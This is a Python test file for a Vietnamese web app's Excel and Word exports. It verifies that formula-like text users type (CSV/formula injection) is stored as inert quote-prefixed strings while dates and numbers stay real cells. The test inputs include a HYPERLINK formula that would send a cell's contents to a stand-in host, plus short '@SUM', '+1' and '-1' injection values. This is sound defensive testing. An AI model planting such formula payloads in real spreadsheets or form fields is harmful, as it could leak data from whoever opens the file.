"""Every spreadsheet the app sends (issue 12, point 6): text a user typed that starts with "=", "+", "-",
"@", tab or CR arrives as inert text (a string cell marked quotePrefix, no formula anywhere in the file),
while dates and numbers stay real date and number cells. Each export is downloaded through HTTP."""
from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime, timedelta

import sqlalchemy as sa
from docx import Document
from openpyxl import load_workbook

from danvan.calls import Call
from danvan.conferences.models import Conference, ConferenceInvitee
from danvan.core.vntext import today_local
from danvan.extensions import db
from tests.samples.initiatives import make_initiative

LINK = '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")'
HOSTILE = (LINK, "+1", "-1", "@SUM(1)")


def _book(response):
    """The downloaded workbook, after checking that no sheet of the file holds a formula element."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype.endswith("spreadsheetml.sheet")
    with zipfile.ZipFile(io.BytesIO(response.data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", z.read(name)), f"formula element in {name}"
    return load_workbook(io.BytesIO(response.data))


def _inert(wb) -> dict[str, object]:
    """Every cell whose text looks like a formula, by its text: each must be a quote-prefixed string."""
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    found[cell.value] = cell
    return found


def _conference(officer, world, title: str) -> Conference:
    r = officer.post_form("/hoi-nghi/moi", {
        "unit_id": world.d1b.id, "kind": "tong_ket", "title": title, "day": "10/12/2026", "start": "08:00",
        "end": "11:30", "venue": "Hội trường", "signer_name": "Ma Văn Cường"})
    assert r.status_code == 303, r.get_data(as_text=True)[:1000]
    return db.session.scalar(sa.select(Conference).order_by(Conference.id.desc()))


def test_conference_lists_keep_formula_text_inert_and_dates_numbers_real(world, login_as):
    officer = login_as("officer", world.d1b)
    conf = _conference(officer, world, LINK)
    r = officer.post_form(f"/hoi-nghi/{conf.id}/diem-cau", {"unit_ids": [world.c1.id], "venue": "-1",
                                                            "contact_name": "@SUM(1)", "contact_phone": "+1"})
    assert r.status_code == 303
    r = officer.post_form(f"/hoi-nghi/{conf.id}/khach-moi", {"unit_ids": [world.c1.id], "addressee": LINK})
    assert r.status_code == 303
    inv = db.session.scalar(sa.select(ConferenceInvitee).where(ConferenceInvitee.conference_id == conf.id))
    commune = login_as("officer", world.c1)
    r = commune.post_form(f"/hoi-nghi/khach-moi/{inv.id}/xac-nhan",
                          {"status": "confirmed", "delegates": "3", "note": "-1"})
    assert r.status_code == 303

    wb = _book(officer.get(f"/hoi-nghi/{conf.id}/excel/dai-bieu.xlsx"))
    ws = wb.active
    cells = _inert(wb)
    assert ws["A1"].value.endswith(LINK)           # the title row: "Danh sách đại biểu – =HYPERLINK…"
    assert cells[f"{LINK} Phường Xuất Hóa"].coordinate == "C4" and cells["-1"].coordinate == "G4"
    assert ws["E4"].data_type == "n" and ws["E4"].value == 3
    assert ws["F4"].is_date and isinstance(ws["F4"].value, datetime)

    wb = _book(commune.get(f"/hoi-nghi/{conf.id}/excel/diem-cau.xlsx"))
    ws = wb.active
    cells = _inert(wb)
    assert {cells[v].coordinate for v in ("-1", "@SUM(1)", "+1")} == {"C4", "D4", "E4"}
    assert ws["F4"].is_date and ws["F4"].value == datetime(2026, 12, 10)
    assert ws["A4"].data_type == "n" and ws["A4"].value == 1

    # The Word version carries the same text as typed.
    r = officer.get(f"/hoi-nghi/{conf.id}/word/diem-cau.docx")
    assert r.status_code == 200
    cells_text = [c.text for t in Document(io.BytesIO(r.data)).tables for row in t.rows for c in row.cells]
    assert "-1" in cells_text and "@SUM(1), +1" in cells_text


def test_initiatives_export_keeps_formula_text_inert_and_dates_numbers_real(world, login_as):
    officer = login_as("officer", world.c1)
    make_initiative(world.c1, name=LINK, organisation="+1", situation="-1", goals="@SUM(1)",
                    content="\tTab đầu dòng", area="\rCR đầu dòng", budget=12.5)
    wb = _book(officer.get("/dan-van-kheo/xuat-excel"))
    ws = wb.active
    cells = _inert(wb)
    assert set(HOSTILE) | {"\tTab đầu dòng", "\rCR đầu dòng"} <= set(cells)
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2])}
    assert row["Năm"].data_type == "n" and row["Năm"].value == 2024
    assert row["Kinh phí (triệu đồng)"].data_type == "n" and row["Kinh phí (triệu đồng)"].value == 12.5
    assert row["Ngày bắt đầu"].is_date and row["Ngày bắt đầu"].value == datetime(2024, 3, 1)
    # The template is made by the same writer: nothing evaluable there either.
    _inert(_book(officer.get("/dan-van-kheo/mau-excel")))


def test_call_tracking_export_keeps_formula_text_inert_and_dates_real(world, login_as, create_unit):
    create_unit("@SUM(1)", "xa", world.d1)       # a unit name typed by an administrator
    issuer = login_as("officer", world.bdv)
    deadline = today_local() + timedelta(days=10)
    r = issuer.post_form("/yeu-cau/moi", {"title": LINK, "kind": "document", "type_code": "BC",
                                          "deadline": deadline.strftime("%d/%m/%Y"), "target_mode": "communes"})
    assert r.status_code == 303, r.get_data(as_text=True)[:1000]
    call = db.session.scalar(sa.select(Call).where(Call.title == LINK))
    wb = _book(issuer.get(f"/yeu-cau/{call.id}/xlsx"))
    ws = wb.active
    cells = _inert(wb)
    assert cells[LINK].coordinate == "A1" and cells["@SUM(1)"].column == 2
    dates = [ws.cell(row, 3) for row in range(4, ws.max_row + 1)]
    assert dates and all(c.is_date and c.value.date() == deadline for c in dates)
    assert [ws.cell(row, 1).value for row in range(4, ws.max_row + 1)] == list(range(1, len(dates) + 1))


def test_writer_drops_control_characters_xml_cannot_hold(world, login_as):
    officer = login_as("officer", world.c1)
    make_initiative(world.c1, name="Mô hình\x01 có ký tự điều khiển\x0b", start_on=date(2024, 3, 1))
    ws = _book(officer.get("/dan-van-kheo/xuat-excel")).active
    assert ws.cell(2, 3).value == "Mô hình có ký tự điều khiển"
